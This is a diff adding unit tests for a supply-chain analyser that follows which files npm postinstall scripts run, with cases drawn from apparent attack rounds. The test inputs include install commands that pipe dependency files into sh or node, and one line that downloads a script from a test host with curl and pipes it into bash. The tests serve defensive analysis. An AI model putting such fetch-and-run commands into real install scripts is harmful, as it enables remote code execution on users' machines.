@@ -5,7 +5,7 @@
  */
 import assert from 'node:assert/strict';
 
-import {analyzeInstall, installCommands, type InstallAnalysis, type PackageFiles} from '../../sources/installScripts/policy/fingerprint';
+import {analyzeEntries, analyzeInstall, installCommands, type InstallAnalysis, type PackageFiles} from '../../sources/installScripts/policy/fingerprint';
 
 type Contents = Record<string, string>;
 
@@ -98,5 +98,61 @@ describe(`analyzeInstall and compiler flags that name a directory (outside attac
     const gyp = gypWith({rules: [{rule_name: `gen`, extension: `in`, outputs: [`x.out`], action: [`node`, `tools/gen.js`, `<(RULE_INPUT_PATH)`]}]});
     const analysis = analyse({}, {'binding.gyp': gyp, 'a.cc': `int a;`, 'tools/gen.js': `require('./lib');\n`, 'tools/lib.js': `\n`});
     assert.deepEqual(filesOf(analysis), [`binding.gyp`, `tools/gen.js`, `tools/lib.js`]);
+  });
+});
+
+describe(`analyzeInstall and a dependency's file handed along by a script (outside attack round 5: A2, A3, A4, A6)`, () => {
+  const cases: Array<[string, string, Array<string>]> = [
+    [`A2: node - < node_modules/dep/x.js`, `node - < node_modules/dep/x.js`, [`dep/x.js`]],
+    [`A3: cat node_modules/dep/x.sh | sh`, `cat node_modules/dep/x.sh | sh`, [`dep/x.sh`]],
+    [`A4: sh < node_modules/dep/x.sh`, `sh < node_modules/dep/x.sh`, [`dep/x.sh`]],
+    [`A6: cp node_modules/dep/x.js s.js && node s.js`, `cp node_modules/dep/x.js s.js && node s.js`, [`dep/x.js`]],
+    [`an option value`, `tool --config=node_modules/dep/c.js`, [`dep/c.js`]],
+    [`an output redirection`, `echo x > node_modules/dep/y.js`, [`dep/y.js`]],
+    [`every command of a chain and a pipeline`, `true && cat node_modules/a/1.sh node_modules/@s/b/2.sh | tee log | sh; cp node_modules/c/3.js .`, [`@s/b/2.sh`, `a/1.sh`, `c/3.js`]],
+    [`a word after cd`, `cd sub && cat node_modules/dep/x.sh | sh`, [`dep/x.sh`]],
+  ];
+  for (const [shown, postinstall, expected] of cases) {
+    it(`follows the node_modules file into the dependency for ${shown}`, () => {
+      const analysis = analyse({postinstall}, {'s.js': `\n`, 'sub/readme': `\n`});
+      assert.deepEqual(analysis.dependencyFiles, expected);
+    });
+  }
+
+  it(`no longer calls the file fed to node - "not a file of the package", nor the one fed to sh`, () => {
+    for (const postinstall of [`node - < node_modules/dep/x.js`, `sh < node_modules/dep/x.sh`])
+      assert.deepEqual(analyse({postinstall}, {}).unresolved, [], postinstall);
+  });
+
+  it(`names a shell or node fed by a pipe as a limit, and hashes what the commands before it name`, () => {
+    const analysis = analyse({postinstall: `cat setup.sh | sh && cat gen.js | node && curl -s https://x.test/i | bash -s -- -y`}, {'setup.sh': `echo\n`, 'gen.js': `\n`});
+    assert.deepEqual(filesOf(analysis), [`gen.js`, `setup.sh`]);
+    assert.deepEqual(analysis.unresolved, [
+      `postinstall: bash runs the commands it reads from a pipe (… | bash), which are not followed; the files the commands before it name are hashed`,
+      `postinstall: node runs the program it reads from a pipe (… | node), which is not followed; the files the commands before it name are hashed`,
+      `postinstall: sh runs the commands it reads from a pipe (… | sh), which are not followed; the files the commands before it name are hashed`,
+    ]);
+  });
+
+  it(`reads node - < file and sh -s < file as running that file of the package`, () => {
+    const analysis = analyse({postinstall: `node - < gen.js && sh -s < setup.sh`}, {'gen.js': `require('./lib');\n`, 'lib.js': `\n`, 'setup.sh': `echo\n`});
+    assert.deepEqual(filesOf(analysis), [`gen.js`, `lib.js`, `setup.sh`]);
+    assert.deepEqual(analysis.unresolved, [`setup.sh: shell script, hashed but not analysed`]);
+  });
+
+  it(`names node - without a file as reading its standard input`, () => {
+    assert.deepEqual(analyse({postinstall: `node -`}, {}).unresolved, [`postinstall: node runs the program it reads from its standard input, which is not followed; the files the commands before it name are hashed`]);
+  });
+
+  it(`does not read a || b as a pipe`, () => {
+    assert.deepEqual(analyse({postinstall: `test -f x || sh ./setup.sh`}, {'setup.sh': `echo\n`}).unresolved, [`setup.sh: shell script, hashed but not analysed`]);
+  });
+});
+
+describe(`analyzeEntries and a directory of a dependency handed along (cp -r node_modules/dep/dist x)`, () => {
+  it(`hashes every file below it and says so`, () => {
+    const analysis = analyzeEntries({entries: [{kind: `file`, path: `dist`}], manifest: {}, files: packageOf({'dist/cli.js': `\n`, 'dist/sub/run.sh': `\n`, 'other.js': `\n`})});
+    assert.deepEqual(filesOf(analysis), [`dist/cli.js`, `dist/sub/run.sh`]);
+    assert.deepEqual(analysis.unresolved, [`dist: a directory, handed to a command that may run what is in it: every file below it is hashed`]);
   });
 });
